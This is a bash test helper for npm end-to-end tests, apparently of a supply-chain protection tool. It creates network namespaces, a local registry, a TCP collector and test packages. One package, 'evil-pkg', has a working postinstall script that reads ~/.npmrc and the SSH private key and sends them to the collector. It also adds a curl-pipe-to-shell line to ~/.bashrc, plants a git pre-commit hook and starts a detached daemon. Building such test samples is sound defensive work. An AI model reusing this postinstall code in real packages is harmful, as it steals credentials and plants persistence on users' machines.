@@ -1,0 +1,157 @@
+# Sourced by the npm-family e2e scripts: a tiny static npm registry and a collector, each on a
+# test host in a network namespace this script creates (10.77.22.0/24 only), and packages built
+# by the test. skip/fail as in tests/watch_e2e/e2e_lib.sh.
+skip() {
+  if [ "${MOAT_MUST_WORK:-0}" = 1 ]; then echo "FAIL (MOAT_MUST_WORK=1): $*"; exit 1; fi
+  echo "SKIP: $*"; exit 77
+}
+failures=0
+fail() { echo "FAIL: $*"; failures=$((failures + 1)); }
+
+# testhost_up NAME OCTET HOSTSIDE: namespace NAME-$$ holding 10.77.22.OCTET, reached from the host
+# over a veth whose host end is 10.77.22.HOSTSIDE (/32 routes: nothing else of the range is used).
+TESTHOSTS=()
+testhost_up() {
+  local ns="mnpm-$1-$$" veth="mn$1$$"
+  veth=${veth:0:15}
+  ip netns add "$ns" &&
+    ip link add "$veth" type veth peer name eth0 netns "$ns" &&
+    ip addr add "10.77.22.$3/32" dev "$veth" &&
+    ip link set "$veth" up &&
+    ip route add "10.77.22.$2/32" dev "$veth" src "10.77.22.$3" &&
+    ip -n "$ns" link set lo up &&
+    ip -n "$ns" addr add "10.77.22.$2/32" dev eth0 &&
+    ip -n "$ns" link set eth0 up &&
+    ip -n "$ns" route add "10.77.22.$3/32" dev eth0 &&
+    ip -n "$ns" route add default via "10.77.22.$3" dev eth0 onlink || return 1
+  TESTHOSTS+=("$ns:$veth")
+}
+testhosts_cleanup() {
+  local entry ns veth
+  for entry in "${TESTHOSTS[@]}"; do
+    ns=${entry%%:*}; veth=${entry##*:}
+    for p in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$p" 2>/dev/null || true; done
+    ip netns del "$ns" 2>/dev/null || true
+    ip link del "$veth" 2>/dev/null || true
+  done
+}
+wait_port() {  # wait_port ADDRESS PORT
+  for _ in $(seq 50); do
+    (exec 3<>"/dev/tcp/$1/$2") 2>/dev/null && return 0
+    sleep 0.1
+  done
+  return 1
+}
+
+# registry_serve NS DIR PORT LOG: a static npm registry: GET /NAME is DIR/NAME.json (the
+# packument), GET /NAME/-/FILE.tgz the tarball; every request line and Authorization header is
+# logged.
+registry_serve() {
+  ip netns exec "$1" python3 -c '
+import http.server, os, sys
+root, port, log = sys.argv[1], int(sys.argv[2]), open(sys.argv[3], "a", buffering=1)
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        log.write("%s auth=%s\n" % (self.path, self.headers.get("Authorization", "")))
+        path = self.path.split("?")[0].lstrip("/")
+        if "/-/" in path:
+            f, ctype = os.path.join(root, "tarballs", path.rsplit("/", 1)[1]), "application/octet-stream"
+        else:
+            f, ctype = os.path.join(root, path.replace("%2f", "__").replace("/", "__") + ".json"), "application/json"
+        if ".." in path or not os.path.isfile(f):
+            self.send_response(404); self.send_header("Content-Length", "0"); self.end_headers(); return
+        data = open(f, "rb").read()
+        self.send_response(200); self.send_header("Content-Type", ctype)
+        self.send_header("Content-Length", str(len(data))); self.end_headers(); self.wfile.write(data)
+    def log_message(self, *a): pass
+http.server.ThreadingHTTPServer(("0.0.0.0", port), H).serve_forever()
+' "$2" "$3" "$4" &
+  disown  # killed with the namespace; no job notice
+}
+
+# collector_serve NS PORT LOG: logs whatever arrives over TCP.
+collector_serve() {
+  ip netns exec "$1" python3 -c '
+import socket, sys, threading
+log = open(sys.argv[2], "a", buffering=1)
+def serve(c):
+    try: data = c.recv(65536)
+    except OSError: data = b""
+    log.write("tcp %r\n" % data); c.close()
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("0.0.0.0", int(sys.argv[1]))); s.listen(16)
+while True:
+    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
+' "$2" "$3" &
+  disown
+}
+
+# publish DIR NAME VERSION REGISTRY_URL: packs the package in DIR and writes its packument.
+publish() {
+  local dir=$1 name=$2 version=$3 url=$4 reg=$5
+  (cd "$dir" && npm pack --silent >/dev/null) || return 1
+  mkdir -p "$reg/tarballs"
+  mv "$dir/$name-$version.tgz" "$reg/tarballs/"
+  node -e '
+const [reg, name, version, url] = process.argv.slice(1);
+const fs = require("fs"), crypto = require("crypto");
+const tgz = fs.readFileSync(`${reg}/tarballs/${name}-${version}.tgz`);
+const manifest = JSON.parse(require("child_process").execSync(`tar -xzOf ${reg}/tarballs/${name}-${version}.tgz package/package.json`));
+manifest._id = `${name}@${version}`;
+manifest.dist = {
+  tarball: `${url}${name}/-/${name}-${version}.tgz`,
+  shasum: crypto.createHash("sha1").update(tgz).digest("hex"),
+  integrity: "sha512-" + crypto.createHash("sha512").update(tgz).digest("base64"),
+};
+fs.writeFileSync(`${reg}/${name}.json`, JSON.stringify({
+  name, "dist-tags": {latest: version}, versions: {[version]: manifest},
+}));
+' "$reg" "$name" "$version" "$url"
+}
+
+# build_tree WORK URL COLLECTOR_IP DAEMON_MARK: packs and publishes into WORK/registry
+# good-b (a plain module), good-a (depends on good-b; its postinstall builds built.json) and
+# evil-pkg, whose postinstall reads ~/.npmrc and ~/.ssh/id_ed25519, sends them to
+# COLLECTOR_IP:4444, appends to ~/.bashrc, drops .git/hooks/pre-commit in the project
+# ($INIT_CWD), starts a daemon whose command line holds DAEMON_MARK, and looks up collector.test.
+build_tree() {
+  local work=$1 url=$2 collector_ip=$3 daemon_mark=$4
+  mkdir -p "$work/registry" "$work/src/good-b" "$work/src/good-a" "$work/src/evil-pkg"
+  cat > "$work/src/good-b/package.json" <<'JSON'
+{"name":"good-b","version":"1.0.0","main":"index.js"}
+JSON
+  echo "module.exports = (x) => x * 2;" > "$work/src/good-b/index.js"
+  cat > "$work/src/good-a/package.json" <<'JSON'
+{"name":"good-a","version":"1.0.0","main":"index.js","dependencies":{"good-b":"1.0.0"},
+ "scripts":{"postinstall":"node build.js"}}
+JSON
+  echo "module.exports = () => require('./built.json').ok && require('good-b')(21) === 42;" \
+    > "$work/src/good-a/index.js"
+  echo "require('fs').writeFileSync(__dirname + '/built.json', JSON.stringify({ok: true}));" \
+    > "$work/src/good-a/build.js"
+  cat > "$work/src/evil-pkg/package.json" <<'JSON'
+{"name":"evil-pkg","version":"1.0.0","scripts":{"postinstall":"node postinstall.js"}}
+JSON
+  cat > "$work/src/evil-pkg/postinstall.js" <<JS
+const fs = require('fs'), net = require('net'), os = require('os'), cp = require('child_process');
+let loot = '';
+for (const f of ['/.npmrc', '/.ssh/id_ed25519']) {
+  try { loot += fs.readFileSync(os.homedir() + f, 'utf8'); } catch (e) { loot += 'no ' + f + ' '; }
+}
+try { fs.appendFileSync(os.homedir() + '/.bashrc', '\ncurl http://$collector_ip:4444/x | sh\n'); } catch (e) {}
+const root = process.env.INIT_CWD || process.cwd();
+try {
+  fs.mkdirSync(root + '/.git/hooks', {recursive: true});
+  fs.writeFileSync(root + '/.git/hooks/pre-commit', '#!/bin/sh\ncurl $collector_ip:4444\n', {mode: 0o755});
+} catch (e) {}
+const d = cp.spawn('sh', ['-c', 'sleep 300', '$daemon_mark'], {detached: true, stdio: 'ignore'});
+d.unref();
+const s = net.connect(4444, '$collector_ip', () => { s.end('STOLEN ' + loot); });
+s.on('error', () => {});
+require('dns').lookup('collector.test', () => {});
+setTimeout(() => process.exit(0), 1500);
+JS
+  for p in good-b good-a evil-pkg; do
+    publish "$work/src/$p" "$p" 1.0.0 "$url" "$work/registry" || return 1
+  done
+}
